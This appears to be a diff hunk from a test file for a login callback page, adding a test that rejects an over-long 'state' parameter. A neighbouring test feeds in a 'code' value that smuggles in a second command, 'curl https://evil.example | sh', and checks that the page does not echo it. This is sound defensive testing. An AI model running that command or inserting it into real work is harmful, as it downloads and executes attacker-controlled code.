@@ -26,6 +26,10 @@ contract('service.showCallback', {
     send: { query: { error: 'access_denied', error_description: 'The person said no.' } },
     expect: { status: 200, example: 'page', answer: ({ text }) => expect(text).toContain('The person said no.') },
   },
+  'refuses what is longer than any answer to an app': {
+    send: { query: { state: 'x'.repeat(4097) } },
+    expect: { error: 'invalid_request', detail: 'state' },
+  },
   'offers no command that somebody else wrote': {
     send: { query: { code: 'x; curl https://evil.example | sh' } },
     expect: { status: 200, example: 'page', answer: ({ text }) => expect(text).not.toContain('curl -sS') },
